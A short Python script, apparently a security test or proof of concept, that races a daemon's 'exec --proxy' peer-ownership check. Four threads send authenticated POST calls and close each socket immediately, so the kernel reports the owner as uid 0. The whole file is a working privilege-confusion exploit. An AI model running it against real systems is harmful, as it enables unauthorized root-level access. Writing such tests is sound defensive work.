"""A user who holds an `exec --proxy` program's stand-in but not its uid: sends a call and
closes its socket at once, many times over from several threads, so that by the time the
daemon asks the kernel who owns the connection the socket has been let go of (TIME_WAIT, or an
orphan), which the kernel reports with no owner (uid 0).
usage: exec_listener_race.py BASE_URL STAND_IN ATTEMPTS
Prints {"sent": N}."""
import socket
import sys
import threading
from urllib.parse import urlsplit

base, token, attempts = urlsplit(sys.argv[1]), sys.argv[2], int(sys.argv[3])
request = (f"POST /api/v1/Account/MA_ACME/Call/ HTTP/1.1\r\nHost: {base.netloc}\r\nX-Auth-Token: {token}\r\n"
           "Content-Type: application/json\r\nContent-Length: 2\r\n\r\n{}").encode()
sent = [0]
lock = threading.Lock()


def worker(n):
    for _ in range(n):
        try:
            s = socket.create_connection((base.hostname, base.port))
            s.sendall(request)
            s.close()
            with lock:
                sent[0] += 1
        except OSError:
            pass


threads = [threading.Thread(target=worker, args=(attempts // 4,)) for _ in range(4)]
for t in threads:
    t.start()
for t in threads:
    t.join()
print('{"sent": %d}' % sent[0])
